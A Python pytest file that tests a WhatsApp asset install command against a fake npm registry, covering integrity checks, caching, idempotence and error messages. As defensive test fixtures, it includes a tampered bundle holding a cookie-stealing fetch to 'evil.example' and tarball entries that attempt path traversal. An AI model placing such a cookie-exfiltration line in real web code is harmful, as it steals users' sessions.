"""``herald whatsapp install`` against a local npm registry, and the worker finding the cache.

The registry (tests/npm_registry.py) serves packuments and tarballs built here, with their
sha512 integrity; a tampered tarball keeps the genuine one's integrity.
"""

from __future__ import annotations

import io
import logging
import tarfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from providers.wppconnect._contract import WAJS_PACKAGE, WAJS_VERSION
from schemas.settings import Settings
from schemas.settings.whatsapp_assets import DEFAULT_WAJS_VERSION
from streams.cli.main import main
from streams.whatsapp import assets
from streams.whatsapp.assets import (
    WA_VERSION_PACKAGE,
    AssetMissing,
    find_wajs,
    find_web_build,
    install,
)
from streams.whatsapp.browser import BrowserLauncher, BrowserUnavailable
from streams.whatsapp.driver import DriverError, DriverSpec
from streams.whatsapp.npm import IntegrityMismatch, RegistryError
from tests.npm_registry import FakeNpmRegistry, tarball

BUNDLE = "/* wa-js test bundle */ window.__testBundle = 1;"
BUILD = "2.3000.1048032155-alpha"
PAGE = "<!doctype html><title>pinned WhatsApp Web</title>"


def wajs_files(version: str = WAJS_VERSION, bundle: str = BUNDLE) -> dict[str, str | bytes]:
    return {
        "package.json": f'{{"name": "{WAJS_PACKAGE}", "version": "{version}"}}',
        "dist/wppconnect-wa.js": bundle,
        "dist/conn/functions/logout.d.ts": "export declare function logout(): Promise<boolean>;",
    }


@pytest.fixture
def registry() -> Iterator[FakeNpmRegistry]:
    with FakeNpmRegistry() as found:
        yield found


@pytest.fixture(autouse=True)
def no_checkout_vendor(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """As in a pip-installed Herald: no vendor/ next to the code."""
    monkeypatch.setattr(assets, "vendor_root", lambda: tmp_path / "no-vendor")


def files_under(root: Path) -> list[Path]:
    return [p for p in root.rglob("*") if p.is_file()]


def settings_for(registry: FakeNpmRegistry, cache: Path, **overrides: object) -> Settings:
    values: dict[str, object] = {
        "whatsapp_npm_registry": registry.url,
        "whatsapp_cache_dir": str(cache),
        **overrides,
    }
    return Settings(_env_file=None, **values)  # type: ignore[arg-type]


def test_the_default_wajs_version_is_the_contracts() -> None:
    assert DEFAULT_WAJS_VERSION == WAJS_VERSION


async def test_install_fetches_verifies_and_the_worker_finds_the_cache(
    registry: FakeNpmRegistry, tmp_path: Path
) -> None:
    registry.publish(WAJS_PACKAGE, WAJS_VERSION, wajs_files())
    registry.publish(WAJS_PACKAGE, "9.9.9", wajs_files("9.9.9", "/* newer */"))  # latest
    settings = settings_for(registry, tmp_path / "cache")
    with pytest.raises(AssetMissing, match="herald whatsapp install"):
        find_wajs(settings)

    done = await install(settings)

    assert [(d.what, d.version, d.fetched) for d in done] == [("wa-js", WAJS_VERSION, True)]
    bundle = tmp_path / "cache" / "wa-js" / WAJS_VERSION / "dist" / "wppconnect-wa.js"
    assert find_wajs(settings) == bundle
    assert bundle.read_text() == BUNDLE  # the pinned version, not the registry's latest
    assert (bundle.parent / "conn/functions/logout.d.ts").is_file()  # the declarations too
    launcher = BrowserLauncher(settings.model_copy(update={"wppconnect_use_chrome": False}))
    launcher._prepare()
    assert BUNDLE in launcher.wajs


async def test_install_is_idempotent(registry: FakeNpmRegistry, tmp_path: Path) -> None:
    registry.publish(WAJS_PACKAGE, WAJS_VERSION, wajs_files())
    registry.publish(WA_VERSION_PACKAGE, "1.5.4908", {f"html/{BUILD}.html": PAGE})
    settings = settings_for(registry, tmp_path / "cache", whatsapp_web_version=BUILD)
    first = await install(settings)
    assert [d.fetched for d in first] == [True, True]
    asked = len(registry.requests)

    again = await install(settings)

    assert [(d.what, d.fetched) for d in again] == [("wa-js", False), ("whatsapp-web", False)]
    assert len(registry.requests) == asked  # nothing asked of the registry
    assert [d.path for d in again] == [d.path for d in first]


async def test_a_tampered_tarball_is_refused_and_nothing_is_installed(
    registry: FakeNpmRegistry, tmp_path: Path
) -> None:
    registry.publish(
        WAJS_PACKAGE,
        WAJS_VERSION,
        wajs_files(),
        tampered=wajs_files(bundle="fetch('https://evil.example/steal?'+document.cookie)"),
    )
    settings = settings_for(registry, tmp_path / "cache")

    with pytest.raises(IntegrityMismatch, match="sha512"):
        await install(settings)

    assert not list((tmp_path / "cache").rglob("*.js"))  # not even a scratch copy
    with pytest.raises(AssetMissing):
        find_wajs(settings)


async def test_a_tarball_cannot_write_outside_its_directory(
    registry: FakeNpmRegistry, tmp_path: Path
) -> None:
    files = wajs_files() | {"../../../escaped.js": "owned", "dist/../../../up.js": "owned"}
    registry.publish(WAJS_PACKAGE, WAJS_VERSION, files)
    settings = settings_for(registry, tmp_path / "cache")

    await install(settings)

    assert find_wajs(settings).read_text() == BUNDLE
    target = tmp_path / "cache" / "wa-js" / WAJS_VERSION
    written = files_under(tmp_path)
    assert sorted(p.name for p in written) == ["logout.d.ts", "package.json", "wppconnect-wa.js"]
    assert all(p.is_relative_to(target) for p in written)


async def test_the_pinned_build_is_installed_and_read_by_the_worker(
    registry: FakeNpmRegistry, tmp_path: Path
) -> None:
    registry.publish(WAJS_PACKAGE, WAJS_VERSION, wajs_files())
    registry.publish(
        WA_VERSION_PACKAGE,
        "1.5.4908",
        {f"html/{BUILD}.html": PAGE, "html/2.3000.1.html": "other", "versions.json": "{}"},
    )
    settings = settings_for(registry, tmp_path / "cache", whatsapp_web_version=BUILD)
    with pytest.raises(AssetMissing, match="herald whatsapp install"):
        find_web_build(settings)

    await install(settings)

    assert find_web_build(settings) == PAGE
    assert [p.name for p in (tmp_path / "cache" / "whatsapp-web").iterdir()] == [f"{BUILD}.html"]
    launcher = BrowserLauncher(settings.model_copy(update={"wppconnect_use_chrome": False}))
    launcher._prepare()
    assert launcher.web_build == PAGE


async def test_a_build_the_package_does_not_hold_is_named(
    registry: FakeNpmRegistry, tmp_path: Path
) -> None:
    registry.publish(WAJS_PACKAGE, WAJS_VERSION, wajs_files())
    registry.publish(WA_VERSION_PACKAGE, "1.5.1", {"html/2.3000.1.html": "old"}, tag=None)
    registry.publish(WA_VERSION_PACKAGE, "1.5.2", {"html/2.3000.2.html": "new"})
    settings = settings_for(registry, tmp_path / "cache", whatsapp_web_version="2.3000.1")
    with pytest.raises(RegistryError, match=r"2\.3000\.1 is not in @wppconnect/wa-version@1\.5\.2"):
        await install(settings)
    # An older package version that still has it:
    older = settings.model_copy(update={"whatsapp_web_version_package": "1.5.1"})
    await install(older)
    assert find_web_build(older) == "old"


async def test_unknown_versions_and_packages_are_registry_errors(
    registry: FakeNpmRegistry, tmp_path: Path
) -> None:
    settings = settings_for(registry, tmp_path / "cache")
    with pytest.raises(RegistryError, match="not on the npm registry"):
        await install(settings)
    registry.publish(WAJS_PACKAGE, "1.0.0", wajs_files("1.0.0"))
    with pytest.raises(RegistryError, match=f"no version or dist-tag '{WAJS_VERSION}'"):
        await install(settings)


def test_the_worker_names_the_install_command_when_the_bundle_is_missing(
    registry: FakeNpmRegistry, tmp_path: Path
) -> None:
    settings = settings_for(registry, tmp_path / "empty", wppconnect_use_chrome=False)
    with pytest.raises(BrowserUnavailable, match="herald whatsapp install"):
        BrowserLauncher(settings)._prepare()


def test_cli_install_exits_0_and_again_when_in_place(
    registry: FakeNpmRegistry,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    registry.publish(WAJS_PACKAGE, WAJS_VERSION, wajs_files())
    registry.publish(WA_VERSION_PACKAGE, "1.5.4908", {f"html/{BUILD}.html": PAGE})
    monkeypatch.chdir(tmp_path)  # no .env
    monkeypatch.setenv("WHATSAPP_NPM_REGISTRY", registry.url)
    monkeypatch.setenv("WHATSAPP_WEB_VERSION", BUILD)
    root = logging.getLogger()
    handlers = list(root.handlers)
    try:
        cache = str(tmp_path / "cache")
        assert main(["whatsapp", "install", "--cache-dir", cache]) == 0
        out = capsys.readouterr().out
        assert f"wa-js {WAJS_VERSION}: installed" in out
        assert f"whatsapp-web {BUILD}: installed" in out
        assert main(["whatsapp", "install", "--cache-dir", cache]) == 0
        out = capsys.readouterr().out
        assert f"wa-js {WAJS_VERSION}: in place" in out
        assert f"whatsapp-web {BUILD}: in place" in out
    finally:
        root.handlers[:] = handlers


def test_cli_install_refuses_a_tampered_tarball(
    registry: FakeNpmRegistry,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    registry.publish(WAJS_PACKAGE, WAJS_VERSION, wajs_files(), tampered={"x": "y"})
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("WHATSAPP_NPM_REGISTRY", registry.url)
    monkeypatch.delenv("WHATSAPP_WEB_VERSION", raising=False)
    root = logging.getLogger()
    handlers = list(root.handlers)
    try:
        code = main(["whatsapp", "install", "--cache-dir", str(tmp_path / "cache")])
    finally:
        root.handlers[:] = handlers
    err = capsys.readouterr().err
    assert code == 1
    assert "tampered" in err


def test_the_tarball_helper_builds_what_npm_pack_builds() -> None:
    with tarfile.open(fileobj=io.BytesIO(tarball({"a.txt": "x"})), mode="r:gz") as archive:
        assert archive.getnames() == ["package/a.txt"]


def test_the_whatsapp_worker_refuses_to_start_without_wa_js(
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
    test_secret_key: str,
) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("WHATSAPP_WPPCONNECT_ENABLED", "true")
    monkeypatch.setenv("HERALD_SECRET_KEY", test_secret_key)  # the check before this one
    monkeypatch.setenv("WHATSAPP_CACHE_DIR", str(tmp_path / "empty"))
    monkeypatch.delenv("WHATSAPP_WPPCONNECT_WAJS_PATH", raising=False)
    root = logging.getLogger()
    handlers = list(root.handlers)
    try:
        code = main(["worker", "whatsapp"])
    finally:
        root.handlers[:] = handlers
    assert code == 2
    assert "herald whatsapp install" in capsys.readouterr().err


async def test_a_session_without_wa_js_fails_as_a_driver_error_naming_the_install(
    registry: FakeNpmRegistry, tmp_path: Path
) -> None:
    settings = settings_for(registry, tmp_path / "empty", wppconnect_use_chrome=False)
    spec = DriverSpec("acme", "tenant-acme", tmp_path / "profile", "http://127.0.0.1:9")
    driver = BrowserLauncher(settings).factory(spec, lambda name, payload: None)
    with pytest.raises(DriverError, match="herald whatsapp install"):
        await driver.open()
